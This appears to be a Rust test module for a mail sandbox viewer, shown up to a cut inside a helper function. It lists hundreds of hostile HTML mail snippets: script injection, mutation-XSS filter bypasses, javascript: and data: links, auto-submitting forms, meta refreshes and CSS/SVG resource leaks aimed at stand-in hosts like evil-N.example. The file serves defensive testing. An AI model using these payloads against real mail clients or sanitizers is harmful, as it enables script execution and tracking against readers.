//! Mail that attacks its reader. Every external name resolves to a server that records each
//! connection, Chromium logs each name lookup, and scripts report that they ran.

mod files;
mod links;
mod messages;
mod unprotected;

use fantoccini::Locator;
use serde_json::json;
use smtp2go_sandbox::Sandbox;
use smtp2go_sdk::{Client, Email};

use crate::support::{Browser, eventually, run, sandbox};

/// A script that requests an external address, notifies the enclosing page, and opens a window.
/// `EVIL` becomes an external address, different each time.
const SCRIPT: &str =
    "new Image().src='EVIL/script';parent.postMessage('ran','*');open('EVIL/open')";

/// Snippets of HTML. `EVIL` is an external address, `HOST` its name, and `SCRIPT` the script above.
const PIECES: &[&str] = &[
    // Scripts.
    "<script>SCRIPT</script>",
    "<script src='EVIL/a.js'></script>",
    "<script type=module>import 'EVIL/a.js'</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"EVIL/s\"]}]}</script>",
    "<scr<script>ipt>SCRIPT</scr</script>ipt>",
    "<ScRiPt\n>SCRIPT</sCrIpT\t>",
    "</title></style></textarea><script>SCRIPT</script>",
    "<!--><script>SCRIPT</script>-->",
    "<noscript><p title=\"</noscript><img src=EVIL/n onerror=SCRIPT>\">",
    "<script type=importmap>{\"imports\":{\"a\":\"EVIL/map.js\"}}</script><script type=module>import 'a'</script>",
    "<script type=webbundle>{\"source\":\"EVIL/bundle\",\"resources\":[\"EVIL/b\"]}</script>",
    "<template shadowrootmode=open><script>SCRIPT</script><img src=EVIL/shadow></template>",
    "<xmp><script></xmp><img src=x onerror=\"SCRIPT\">",
    // Mutation XSS: HTML that a parser reads differently after serialisation, or differently than a
    // filter.
    "<svg></p><style><a id=\"</style><img src=EVIL/m onerror=SCRIPT>\">",
    "<math><mtext></p><style><!--</style><img title=\"--><img src=EVIL/m onerror=SCRIPT>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=EVIL/m onerror=\"SCRIPT\">",
    "<form><div></form><form><svg></form><img src=EVIL/m onerror=\"SCRIPT\"><form><form></form>",
    "<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src=EVIL/m onerror='SCRIPT'>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=EVIL/m onerror=SCRIPT&gt;\"><img src=EVIL/m onerror=\"SCRIPT\">",
    "<math><annotation-xml encoding='text/html'><style><img src=EVIL/m onerror=\"SCRIPT\"></style></annotation-xml></math>",
    "<svg><annotation-xml><foreignObject><style><!--</style><p id=\"--!><img src=EVIL/m onerror=SCRIPT>\">",
    "<svg><title><style><img src=EVIL/m onerror=\"SCRIPT\"></style></title></svg>",
    "<svg><desc><noscript><img title=\"</noscript><img src=EVIL/m onerror=SCRIPT>\"></desc></svg>",
    "<svg><style><img title=\"</style><img src=EVIL/m onerror=SCRIPT>\"></style></svg>",
    "<svg><![CDATA[><img src=EVIL/m onerror=\"SCRIPT\">]]></svg><![CDATA[<img src=EVIL/m2 onerror=\"SCRIPT\">]]>",
    "<svg><textarea><a title=\"</textarea><img src=EVIL/m onerror=SCRIPT>\"></svg>",
    "<title><a title=\"</title><img src=EVIL/m onerror=SCRIPT>\"></title>",
    "<textarea><a title=\"</textarea><img src=EVIL/m onerror=SCRIPT>\"></textarea>",
    "<style><a title=\"</style><img src=EVIL/m onerror=SCRIPT>\"></style>",
    "<xmp><a title=\"</xmp><img src=EVIL/m onerror=SCRIPT>\"></xmp>",
    "<noembed><a title=\"</noembed><img src=EVIL/m onerror=SCRIPT>\"></noembed>",
    "<noframes><a title=\"</noframes><img src=EVIL/m onerror=SCRIPT>\"></noframes>",
    "<iframe><a title=\"</iframe><img src=EVIL/m onerror=SCRIPT>\"></iframe>",
    "<plaintext><img src=EVIL/m onerror=\"SCRIPT\">",
    "<noscript><style></noscript><img src=EVIL/m onerror=\"SCRIPT\"></style></noscript>",
    "<noscript><link rel=preconnect href=EVIL><meta http-equiv=refresh content='0;url=EVIL/m'></noscript>",
    "<template><s><template><s><img src=EVIL/m onerror=\"SCRIPT\">@s</s></template></s></template>",
    "<template><style></template><img src=EVIL/m onerror=\"SCRIPT\"></style></template>",
    "<div><template shadowrootmode=closed><style>@import 'EVIL/m.css';</style><svg onload=\"SCRIPT\"></svg></template></div>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=EVIL/m onerror=SCRIPT>\">",
    "<select><iframe><select><img src=EVIL/m onerror=\"SCRIPT\"></iframe></select>",
    "<select><style></select><img src=EVIL/m onerror=\"SCRIPT\"></style></select>",
    "<table><math><tr><td><svg><style><img src=EVIL/m onerror=\"SCRIPT\"></style></table>",
    "<table><tr><a><td><img src=EVIL/m onerror=\"SCRIPT\"></a><a></table>",
    "<table><caption><svg><title><table><style><img src=EVIL/m onerror=\"SCRIPT\"></style></table>",
    "<b><p><svg></b><title></p><img src=EVIL/m onerror=\"SCRIPT\"></title></svg>",
    "<img alt=\"`><img src=EVIL/m onerror=SCRIPT>`\"><img alt=``onerror=SCRIPT src=EVIL/m2>",
    "<a title='`<img src=EVIL/m onerror=SCRIPT>' alt=`>x`></a>",
    "<!-- --!><img src=EVIL/m onerror=\"SCRIPT\"> -->",
    "<!---><img src=EVIL/m onerror=\"SCRIPT\">-->",
    "<!--<!-- --><img src=EVIL/m onerror=\"SCRIPT\">--> -->",
    "<!bogus title=\"><img src=EVIL/m onerror=SCRIPT>\"></ title=\"><img src=EVIL/m2 onerror=SCRIPT>\">",
    "<?x title=\"><img src=EVIL/m onerror=SCRIPT>\"?>",
    "<script>/*<!--<script>*/</script><img src=EVIL/m onerror=\"SCRIPT\"></script>",
    "<p title='&lt;/p&gt;&lt;img src=EVIL/m onerror=SCRIPT&gt;'>&lt;img src=EVIL/m2 onerror=SCRIPT&gt;",
    "<a href='x' href='javascript:SCRIPT' id=a id=\"><img src=EVIL/m onerror=SCRIPT>\">x</a>",
    "<img src=x:x onerror\t=\n'SCRIPT' / src=EVIL/m/>",
    "<im\u{212a}><l\u{130}nk rel=preconnect href=EVIL><lin\u{212a} rel=preconnect href=EVIL><img/src=EVIL/m/onerror=SCRIPT>",
    // Handlers.
    "<img src=x onerror=\"SCRIPT\">",
    "<body onload=\"SCRIPT\" onpageshow=\"SCRIPT\" background='EVIL/bg'>",
    "<svg onload=\"SCRIPT\"></svg>",
    "<input autofocus onfocus=\"SCRIPT\">",
    "<details open ontoggle=\"SCRIPT\"><summary>x</summary></details>",
    "<video autoplay onloadstart=\"SCRIPT\"><source src=EVIL/v onerror=\"SCRIPT\"></video>",
    "<marquee onstart=\"SCRIPT\">x</marquee>",
    "<style>@keyframes k{from{color:red}}</style><p style='animation:k 1s' onanimationstart=\"SCRIPT\">x",
    "<a id=x tabindex=1 onfocus=\"SCRIPT\" autofocus>x</a>",
    "<div popover id=p onbeforetoggle=\"SCRIPT\">x</div><button popovertarget=p>x</button>",
    // Script links.
    "<a href=\"javascript:SCRIPT\">x</a>",
    "<a target=_blank href=\"JaVaScRiPt:SCRIPT\">x</a>",
    "<a target=_top href=\" &#106;avascript:SCRIPT\">x</a>",
    "<a target=_self href=\"java\tscript:SCRIPT\">x</a>",
    "<a href=\"data:text/html,<script>SCRIPT</script>\">x</a>",
    "<a target=_self href=\"data:text/html,<script>SCRIPT</script>\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<map name=m><area shape=rect coords=0,0,99,99 href=\"javascript:SCRIPT\"></map><img usemap=#m width=99 height=99>",
    "<svg><a href=\"javascript:SCRIPT\"><text y=20>x</text></a></svg>",
    "<math href=\"javascript:SCRIPT\"><mtext>x</mtext></math>",
    "<form><button formaction=\"javascript:SCRIPT\">x</button></form>",
    "<svg><a xlink:href=\"javascript:SCRIPT\" target=_self><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=\"javascript:SCRIPT\" begin=0s fill=freeze /><text y=20>x</text></a></svg>",
    "<math><maction actiontype='statusline#http://x' xlink:href=\"javascript:SCRIPT\"><mtext>x</mtext></maction></math>",
    "<a target=_blank href=\"data:text/html,<script>SCRIPT</script>\">x</a>",
    "<a target=_top href=\"data:text/html;base64,PHNjcmlwdD5wYXJlbnQucG9zdE1lc3NhZ2UoJ3JhbicsJyonKTwvc2NyaXB0Pg==\">x</a>",
    "<a target=_self href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='SCRIPT'/>\">x</a>",
    "<a target=_self href=\"data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>SCRIPT</x:script>\">x</a>",
    "<a target=_self href='about:srcdoc'>x</a><a target=_self href='about:blank'>x</a>",
    "<a target=_self href='blob:null/1'>x</a><a target=_top href='file:///etc/passwd'>x</a><a target=_self href='chrome://settings'>x</a>",
    // Links within the sandbox.
    "<a target=_self href='/_inbox/reset'>x</a><a target=_top href='/_inbox/reset'>x</a>",
    "<a target=_self href='?remote=1'>x</a><img src=EVIL/remote>",
    "<a target=_self href='html?remote=1'>x</a><a href='html?remote=1'>x</a><a target=name href='?remote=1'>x</a><img src=EVIL/remote>",
    "<a target=_self href='html?remote=1#x'>x</a><a target=_self href='./html?x=y&amp;remote=1'>x</a><img src=EVIL/remote>",
    "<a target=_self href=raw>x</a><a target=_self href=files/0>x</a><a href=raw>x</a>",
    // Forms.
    "<form action=EVIL/form method=post><input name=a value=b><button>x</button></form>",
    "<form action=EVIL/form target=_blank><button>x</button></form>",
    "<form action=EVIL/form target=_top><input type=submit value=x></form>",
    "<form id=f></form><button form=f formaction=EVIL/form>x</button>",
    "<form action='/_inbox/reset' method=post><button>x</button></form>",
    "<form action='/_inbox/reset' method=post target=_top><button>x</button></form>",
    "<form action=EVIL/f><input type=image src=EVIL/image></form>",
    "<isindex action=EVIL/i>",
    "<form id=f action=EVIL/auto><input name=a value=b></form><script>document.forms[0].submit()</script>",
    "<form action=EVIL/auto><button autofocus onfocus=\"this.form.submit()\">x</button><input autofocus onfocus=\"form.submit()\"></form>",
    "<form action=EVIL/self target=_self><button>x</button></form><form action=EVIL/parent target=_parent><button>x</button></form>",
    "<form action=?remote=1 target=_self><button name=remote value=1>x</button></form><img src=EVIL/remote>",
    "<button formaction=EVIL/b formtarget=_top formmethod=post form=g>x</button><form id=g></form>",
    "<form method=dialog action=EVIL/d><button formmethod=get>x</button></form>",
    "<form action=mailto:a@HOST method=post enctype=text/plain><button>x</button></form>",
    "<input type=file><input list=l><datalist id=l><option label=x value=EVIL/l></datalist><input type=color autofocus>",
    "<permission type='camera microphone geolocation'></permission><geolocation autolocate></geolocation><usermedia></usermedia><install installurl=EVIL/app></install>",
    "<button commandfor=d command=show-modal>x</button><dialog id=d><img src=EVIL/dialog></dialog>",
    // Automatic navigation.
    "<meta http-equiv=refresh content='0;url=EVIL/refresh'>",
    "<meta http-equiv=refresh content='0;url=javascript:SCRIPT'>",
    "<meta http-equiv=refresh content='0;url=?remote=1'><img src=EVIL/after-refresh>",
    "<meta http-equiv=refresh content='0;url=html?remote=1'><img src=EVIL/after-refresh>",
    "<meta http-equiv=ReFrEsH content=\"0, 'EVIL/refresh'\"><meta http-equiv=refresh content='0;EVIL/refresh2'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>SCRIPT</script><img src=EVIL/data>'>",
    "<svg><foreignObject><meta http-equiv=refresh content='0;url=EVIL/refresh'></foreignObject></svg>",
    "<body><select><meta http-equiv=refresh content='0;url=EVIL/refresh'></select>",
    "<meta http-equiv=refresh content='0;url=/_inbox/reset'>",
    "<meta http-equiv=Content-Type content='text/html;charset=utf-7'>+ADw-img src+AD0-EVIL/utf7 onerror+AD0AIg-SCRIPT+ACIAPg-",
    "<meta charset=utf-16le><meta charset=iso-2022-jp>\x1b$B<\x1b(Bimg src=EVIL/jp onerror=\"SCRIPT\">",
    "<meta name=referrer content=unsafe-url><meta http-equiv=origin-trial content=x><meta http-equiv=accept-ch content='dpr'><meta http-equiv=delegate-ch content='dpr EVIL'>",
    "<html manifest=EVIL/manifest><head profile=EVIL/profile>",
    "<meta http-equiv=Content-Security-Policy content=\"img-src *; script-src * 'unsafe-inline'\"><img src=EVIL/csp><script>SCRIPT</script>",
    "<meta http-equiv=Link content='<EVIL/l>; rel=preload; as=image'>",
    "<meta http-equiv=set-cookie content='a=b'><meta http-equiv=x-dns-prefetch-control content=on><a href=EVIL>x-not-clicked</a>",
    "<base href='EVIL/'><img src=relative>",
    "<base target=_top><base href=//evil.example><link rel=stylesheet href=a.css>",
    // Resource hints.
    "<link rel=preconnect href=EVIL>",
    "<link rel=dns-prefetch href=EVIL>",
    "<link rel=prefetch href=EVIL/prefetch>",
    "<link rel=preload as=image href=EVIL/preload>",
    "<link rel=preload as=image imagesrcset='EVIL/srcset 1x'>",
    "<link rel=modulepreload href=EVIL/module>",
    "<link rel=prerender href=EVIL/prerender>",
    "<link rel=stylesheet href=EVIL/style.css>",
    "<LINK/REL=preconnect/HREF=EVIL>",
    "<link\x0crel=preconnect\x0chref=EVIL>",
    "<link rel=icon href=EVIL/icon><link rel=manifest href=EVIL/m><link rel=expect href=EVIL>",
    "<svg><foreignObject><link xmlns='http://www.w3.org/1999/xhtml' rel=preconnect href=EVIL></link></foreignObject></svg>",
    "<table><link rel=preconnect href=EVIL></table>",
    "<link rel='dns-prefetch preconnect prefetch' href=//HOST>",
    "<link rel=preconnect href=https://HOST>",
    "<link rel=compression-dictionary href=EVIL/dictionary><link rel=subresource href=EVIL/sub><link rel=import href=EVIL/import>",
    "<link rel=next href=EVIL/next><link rel=search href=EVIL/search><link rel=apple-touch-icon href=EVIL/touch><link rel=facilitated-payment href=EVIL/pay>",
    "<link rel=preload as=fetch crossorigin href=EVIL/p><link rel=preload as=script href=EVIL/p><link rel=preload as=style href=EVIL/p><link rel=preload as=font crossorigin href=EVIL/p>",
    "<link rel=stylesheet href=\"data:text/css,@import 'EVIL/data.css';\">",
    "<math><mtext><link rel=preconnect href=EVIL></mtext></math><svg><desc><link rel=preconnect href=EVIL></desc></svg>",
    "<math><annotation-xml encoding='text/html'><link rel=preconnect href=EVIL></annotation-xml></math>",
    "<select><link rel=preconnect href=EVIL></select><frameset></frameset><noframes></noframes><link rel=preconnect href=EVIL>",
    "<//><link//rel=preconnect//href=EVIL//><link\nrel=preconnect\rhref=EVIL><link rel=\"preconnect\"href=\"EVIL\">",
    "<x-<link rel=preconnect href=EVIL><x <link rel=preconnect href=EVIL></<link rel=preconnect href=EVIL>",
    "<!--><link rel=preconnect href=EVIL>--><!-- --!><link rel=preconnect href=EVIL><svg><![CDATA[]]><desc><link rel=preconnect href=EVIL>",
    "<a rel='prefetch preconnect' href=EVIL/a>x-not-clicked</a><area rel=preconnect href=EVIL/b><form rel=preconnect action=EVIL/c></form>",
    "<template shadowrootmode=open><link rel=preconnect href=EVIL></template>",
    // External images and other resources.
    "<img src=EVIL/img>",
    "<img src=//evil.example/img>",
    "<img srcset='EVIL/1 1x, EVIL/2 2x'>",
    "<img src=x lowsrc=EVIL/low dynsrc=EVIL/dyn longdesc=EVIL/long loading=eager>",
    "<picture><source srcset=EVIL/p><img src=x></picture>",
    "<image href=EVIL/image src=EVIL/image2>",
    "<table background=EVIL/t><tr><td background=EVIL/td>x</table>",
    "<video poster=EVIL/poster src=EVIL/video autoplay></video>",
    "<audio src=EVIL/audio autoplay preload=auto></audio>",
    "<video><track default kind=subtitles src=EVIL/track></video>",
    "<bgsound src=EVIL/sound>",
    "<input type=image src=EVIL/input>",
    "<object data=EVIL/object></object>",
    "<object data=EVIL/o type=text/html><param name=src value=EVIL/param></object>",
    "<embed src=EVIL/embed>",
    "<applet code=x codebase=EVIL></applet>",
    "<img src='file:///etc/passwd'><img src='blob:EVIL/x'>",
    "<a href=/ ping=EVIL/ping>x</a>",
    "<img src=//HOST/a><img src=\\\\HOST\\b><img src=http:HOST/c><img src=http:/HOST/d><img src='ht\ntp://HOST/e'><img src=' \tEVIL/f'>",
    "<img src=https://HOST/a><img src=http://a:b@HOST/c><img src=ftp://HOST/d><img src=ws://HOST/e>",
    "<img src=http&colon;&sol;&sol;HOST/entity><img src='&#104;ttp://HOST/entity2'>",
    "<img sizes=100vw srcset='EVIL/1 100w, EVIL/2 2000w'><img loading=lazy src=EVIL/lazy><img crossorigin src=EVIL/cors fetchpriority=high>",
    "<picture><source media='(min-width:1px)' srcset='EVIL/p 1x'><source type=image/webp srcset=EVIL/p2><img srcset='EVIL/p3 1x'></picture>",
    "<picture><source srcset=EVIL/p></picture><video><source src=EVIL/v type=video/mp4><track default src=EVIL/t><img src=EVIL/fallback></video>",
    "<audio controls autoplay><source src=EVIL/a.mp3><track default kind=captions src=EVIL/a.vtt></audio><video preload=metadata src=EVIL/m.mp4 poster=//HOST/poster></video>",
    "<img attributionsrc=https://HOST/a src=data:,><img attributionsrc=EVIL/b src=EVIL/c browsingtopics sharedstoragewritable>",
    "<object data=EVIL/o type=image/svg+xml><embed src=EVIL/e type=application/pdf><img src=EVIL/fallback></object>",
    "<object classid=EVIL/c codebase=EVIL/ archive=EVIL/a><param name=movie value=EVIL/movie></object><embed src=EVIL/e pluginspage=EVIL/p code=EVIL/c>",
    "<object data=\"data:text/html,<script>SCRIPT</script><img src=EVIL/o>\"></object><embed src=\"data:text/html,<img src=EVIL/e>\">",
    "<object data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='SCRIPT'><image href='EVIL/o'/></svg>\"></object>",
    "<object data=files/0></object><embed src=raw><iframe src=raw></iframe><script src=files/0></script><link rel=stylesheet href=files/0>",
    "<webview src=EVIL/webview></webview><controlledframe src=EVIL/cf></controlledframe><browser src=EVIL/b></browser><portal src=EVIL/p></portal>",
    "<img src='mhtml:EVIL/m!x'><img src='mid:EVIL'><img src='about:EVIL'><img src='view-source:EVIL/v'>",
    "<body style='background:EVIL' background=//HOST/bg bgcolor=url(EVIL/c)><hr background=EVIL/hr><tbody background=EVIL/tb><th background=EVIL/th>",
    "<input type=image srcset='EVIL/i 1x' src=EVIL/i2><menuitem icon=EVIL/icon><command icon=EVIL/icon2><keygen challenge=EVIL><layer src=EVIL/layer><ilayer src=EVIL/ilayer>",
    // Frames.
    "<iframe src=EVIL/frame></iframe>",
    "<iframe srcdoc=\"<script>SCRIPT</script><link rel=preconnect href=EVIL><img src=EVIL/srcdoc>\"></iframe>",
    "<iframe src=\"javascript:SCRIPT\"></iframe>",
    "<iframe src=\"data:text/html,<script>SCRIPT</script>\"></iframe>",
    "<iframe src=/_inbox/reset></iframe>",
    "<frameset cols=*><frame src=EVIL/f></frameset>",
    "<fencedframe></fencedframe><portal src=EVIL/portal></portal>",
    "<iframe srcdoc=\"&lt;iframe srcdoc='&amp;lt;link rel=preconnect href=EVIL&amp;gt;&amp;lt;img src=EVIL/deep&amp;gt;'&gt;\"></iframe>",
    "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=EVIL/refresh'>\"></iframe><iframe loading=lazy src=EVIL/lazy></iframe>",
    "<iframe csp=\"img-src *\" allow='camera *' src=//HOST/frame></iframe><iframe name=EVIL src=about:blank></iframe>",
    "<iframe srcdoc=\"<base href=EVIL/><a href=x target=_top>x</a>\" sandbox='allow-scripts allow-top-navigation'></iframe>",
    "<iframe src=/_inbox/faults></iframe><iframe src='html?remote=1'></iframe><iframe src='?remote=1'></iframe><img src=EVIL/remote>",
    "<ifr<iframe>ame src=EVIL/f></iframe></ifr</iframe>ame><frame src=EVIL/f><noframes><iframe src=EVIL/n></noframes>",
    "<IFRAME/SRC=EVIL/f></IFRAME><iframe\tsrc=EVIL/f><iframe<link rel=preconnect href=EVIL> src=EVIL/f>",
    // SVG and MathML.
    "<svg><script>SCRIPT</script></svg>",
    "<svg><script href=EVIL/svg.js /></svg>",
    "<svg><image href=EVIL/svgimage width=9 height=9 /></svg>",
    "<svg><image xlink:href=EVIL/xlink width=9 height=9 /></svg>",
    "<svg><use href=EVIL/use#a /></svg>",
    "<svg><filter id=a><feImage href=EVIL/fe /></filter><rect filter=url(#a) width=9 height=9 /></svg>",
    "<svg><animate onbegin=\"SCRIPT\" attributeName=x dur=1s /></svg>",
    "<svg><a><set attributeName=href to=\"javascript:SCRIPT\"/><text y=20>x</text></a></svg>",
    "<svg><style>@import 'EVIL/svg.css';</style></svg>",
    "<svg><foreignObject><img src=x onerror=\"SCRIPT\"></foreignObject></svg>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='SCRIPT'><image href='EVIL/inner'/></svg>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"SCRIPT\"></style></mglyph></table></mtext></math>",
    "<svg><use xlink:href='EVIL/use.svg#a' /><use href='data:image/svg+xml,<svg id=\"a\" xmlns=\"http://www.w3.org/2000/svg\"><image href=\"EVIL/u\"/></svg>#a' /></svg>",
    "<svg width=9 height=9><image width=9 height=9><set attributeName=href to=EVIL/set begin=0s /></image></svg>",
    "<svg width=9 height=9><image width=9 height=9 href=data:,><animate attributeName=xlink:href values='EVIL/animate' begin=0s fill=freeze /></image></svg>",
    "<svg width=9 height=9><filter id=f><feImage xlink:href=EVIL/fe /></filter><rect filter=url(#f) fill=\"url('EVIL/fill#a')\" mask=url(EVIL/mask#a) stroke=url(EVIL/s#a) marker-start=url(EVIL/m#a) clip-path=url(EVIL/c#a) cursor=url(EVIL/cursor) width=9 height=9 /></svg>",
    "<svg><pattern id=p href=EVIL/pattern#a><image href=EVIL/inner width=9 height=9 /></pattern><rect fill=url(#p) width=9 height=9 /><linearGradient href=EVIL/g#a /><textPath href=EVIL/t#a>x</textPath><mpath href=EVIL/m#a /></svg>",
    "<svg><tref xlink:href=EVIL/tref /><cursor xlink:href=EVIL/cursor /><color-profile xlink:href=EVIL/icc /><font-face-uri xlink:href=EVIL/font /><altGlyph xlink:href=EVIL/glyph>x</altGlyph></svg>",
    "<svg><script xlink:href=\"data:text/javascript,SCRIPT\" /><script>&#112;arent.postMessage('ran','*')</script></svg>",
    "<svg><handler type=text/javascript ev:event=load>SCRIPT</handler><set onbegin=\"SCRIPT\" attributeName=x to=1 /><animateTransform onend=\"SCRIPT\" attributeName=transform dur=1ms /></svg>",
    "<svg><foreignObject><iframe src=EVIL/f></iframe><video src=EVIL/v autoplay></video><object data=EVIL/o></object></foreignObject></svg>",
    "<svg xml:base='EVIL/'><image href=relative width=9 height=9 /><style>@import 'relative.css';</style></svg>",
    "<svg><metadata><link xmlns='http://www.w3.org/1999/xhtml' rel=preconnect href=EVIL></link></metadata><desc><img src=EVIL/desc></desc></svg>",
    "<?xml-stylesheet type='text/xsl' href='EVIL/x.xsl'?><xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:include href='EVIL/inc.xsl'/></xsl:stylesheet><xi:include href=EVIL/xi />",
    "<math altimg=EVIL/alt definitionURL=EVIL/def><mglyph src=EVIL/glyph></mglyph><mtext background=EVIL/b mathbackground=url(EVIL/m)>x</mtext></math>",
    "<math><mrow href=EVIL/row target=_self><mtext>x</mtext></mrow><semantics><annotation src=EVIL/ann></annotation><annotation-xml src=EVIL/xml></annotation-xml></semantics></math>",
    // Styles that leak.
    "<style>@\\69mport 'EVIL/a.css';</style><style>@i\\mport url(EVIL/b.css);</style><style>\\@import 'EVIL/c.css';</style>",
    "<p style='background:\\75rl(EVIL/a);list-style:u\\72 l(EVIL/b);cursor:url(\\68ttp://HOST/c),auto'>x",
    "<p style=\"background:url('\\68\\74\\74\\70://HOST/a');border-image:url(\\0068ttp:\\2f\\2fHOST/b)\">x",
    "<p style='background:url(//HOST/a)'>x<p style='background:url(\\\\HOST/b)'>x<p style='background&colon;url&lpar;EVIL/c&rpar;'>x",
    "<p style='background:/**/url(/**/EVIL/a);background:u/**/rl(EVIL/b);background-image:URL(  EVIL/c  )'>x",
    "<p style='--x:url(EVIL/a);background:var(--x)'>x<style>@property --y{syntax:\"<url>\";inherits:false;initial-value:url(EVIL/b)}p{background:var(--y)}</style>",
    "<p style='background:-webkit-image-set(url(EVIL/a) 1x);mask-image:-webkit-cross-fade(url(EVIL/b),url(EVIL/c),50%);-webkit-box-reflect:below 0 url(EVIL/d)'>x",
    "<p style='background:image-set(\"EVIL/a\" 1x);content:image(\"EVIL/b\");background:src(\"EVIL/c\");offset-path:url(EVIL/d#a)'>x",
    "<p data-u='EVIL/attr' style='background:image-set(attr(data-u type(<string>)) 1x);background:attr(data-u type(<url>))'>x",
    "<style>@import url(\"EVIL/a.css\")layer(x)supports(display:block)screen;</style><style>@charset 'utf-7';@import 'EVIL/b.css';</style>",
    "<style>@import \"data:text/css,@import 'EVIL/nested.css';\";</style><style>@import'EVIL/a.css'\n;</style><style><!--@import'EVIL/b.css';--></style>",
    "<style>@font-face{font-family:f;src:local(x),url(EVIL/f.woff2)format('woff2');unicode-range:U+61}p{font-family:f}</style><p>a",
    "<style>@font-face{font-family:g;src:url(\"//HOST/f\")}@counter-style c{system:cyclic;symbols:url(EVIL/sym)}li{list-style:c;font-family:g}</style><ul><li>x</ul>",
    "<style>p::before{content:url(EVIL/before)}p::first-line{background:url(EVIL/line)}p::marker{content:url(EVIL/marker)}@page{background:url(EVIL/page)}</style><p>x",
    "<style>@media all{@supports(color:red){@layer l{@container(min-width:0){p{background:url(EVIL/c)}}}}}p{&:hover,&{background:url(EVIL/n)}}</style><p>x",
    "<style>@document url(http://x){p{background:url(EVIL/d)}}@scope(p){:scope{background:url(EVIL/s)}}@starting-style{p{background:url(EVIL/ss)}}p{transition:all 1s}</style><p>x",
    "<style>@keyframes k{from{background:url(EVIL/from)}to{background:url(EVIL/to)}}p{animation:k 1s infinite}</style><p>x",
    "<style type=text/css media=all>p{background:url('EVIL/a\n');}</style><style>p{background:url(EVIL/a b)}</style><style>p{background:url(\"EVIL/unclosed",
    "<p style=\"background:url(data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='EVIL/css-svg'/><style>@import 'EVIL/css-svg.css';</style></svg>)\">x",
    "<style>@import 'EVIL/import.css';</style>",
    "<style>@import url(EVIL/import2.css) screen;</style>",
    "<style>body{background:url(EVIL/css)} *{list-style:url(EVIL/ls);cursor:url(EVIL/c),auto}</style><ul><li>x</ul>",
    "<p style='background:url(EVIL/inline)'>x</p>",
    "<p style='background:image-set(url(EVIL/set) 1x)'>x</p>",
    "<style>@font-face{font-family:f;src:url(EVIL/font)}*{font-family:f}</style>text",
    "<style>input[value^=a]{background:url(EVIL/attribute)}</style><input value=abc>",
    "<style>:visited{background:url(EVIL/visited)} a:link{content:url(EVIL/content)}</style><a href=/>x-not-clicked</a>",
    "<style>html:has(body){border-image:url(EVIL/has)} ::selection{background:url(EVIL/sel)}</style>",
    "<style>@namespace url(EVIL/ns); @media print{body{background:url(EVIL/print)}} p{mask:url(EVIL/mask);filter:url(EVIL/filter#a);clip-path:url(EVIL/clip#a);shape-outside:url(EVIL/shape)}</style><p>x",
    "<p style='behavior:url(EVIL/b);-moz-binding:url(EVIL/m);width:expression(SCRIPT)'>x",
    // Invalid markup.
    "\u{0}<scr\u{0}ipt>SCRIPT</scr\u{0}ipt>",
    "<img src=x onerror=\u{ff1c}SCRIPT>\u{202e}\u{feff}\u{fffe}",
    "<<<<img<img src='EVIL/x'onerror='SCRIPT'>",
    "+ADw-script+AD4-SCRIPT+ADw-/script+AD4-",
    "<img \"\"\"><script>SCRIPT</script>\">",
    "<a href='EVIL' style='position:fixed;inset:0' target=_top>x-not-clicked</a>",
    "<?xml version='1.0'?><?xml-stylesheet href='EVIL/x.xsl'?><!DOCTYPE x SYSTEM 'EVIL/dtd' [<!ENTITY a SYSTEM 'EVIL/entity'>]><p>&a;",
];

fn fill(piece: &str, number: usize) -> String {
    let host = format!("evil-{number}.example");
    piece
        .replace("SCRIPT", SCRIPT)
        .replace("EVIL", &format!("http://{host}"))
        .replace("HOST", &host)
}

/// Attributes that have or had addresses as values.
const ATTRIBUTES: &str = "href src action formaction data poster background cite longdesc usemap \
    codebase classid archive profile manifest icon lowsrc dynsrc xlink:href srcdoc srcset imagesrcset \
    ping content style to from values by begin code object value attributionsrc xml:base target \
    definitionurl altimg nohref dsync location url source syncmaster implementation fill filter mask";

const ELEMENTS: &str = "a abbr applet area article audio base bgsound blockquote body button col del \
    details div embed fencedframe font form frame frameset hr iframe image img input ins isindex label \
    layer link map marquee math menuitem meta meter mglyph mtext object option p param portal q script \
    section select source span style svg table td template textarea th tr track use video webview x-y";

const EVENTS: &str = "abort afterprint animationend animationiteration animationstart auxclick \
    beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload \
    beforexrselect begin blur bounce cancel canplay canplaythrough change click close command \
    contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter \
    dragleave dragover dragstart drop durationchange end ended error finish focus focusin focusout \
    formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load \
    loadeddata loadedmetadata loadend loadstart message mousedown mouseenter mouseleave mousemove \
    mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste pause play playing \
    pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover \
    pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange repeat \
    reset resize scroll scrollend scrollsnapchange search seeked seeking select selectionchange \
    selectstart show slotchange stalled start storage submit suspend timeupdate toggle transitioncancel \
    transitionend transitionrun transitionstart unload validationstatuschange volumechange waiting \
    webkitanimationstart wheel";

/// Returns mails in which every attribute of every element is an attack.
fn everywhere() -> Vec<String> {
    let all = |attributes: &str, prefix: &str, value: &str, text: &str| {
        let mut html = String::new();
        for element in ELEMENTS.split_whitespace() {
            let attributes: String = attributes
                .split_whitespace()
                .map(|name| format!(" {prefix}{name}=\"{value}\""))
                .collect();
            html.push_str(&format!("<{element}{attributes}>{text}</{element}>\n"));
        }
        html
    };
    vec![
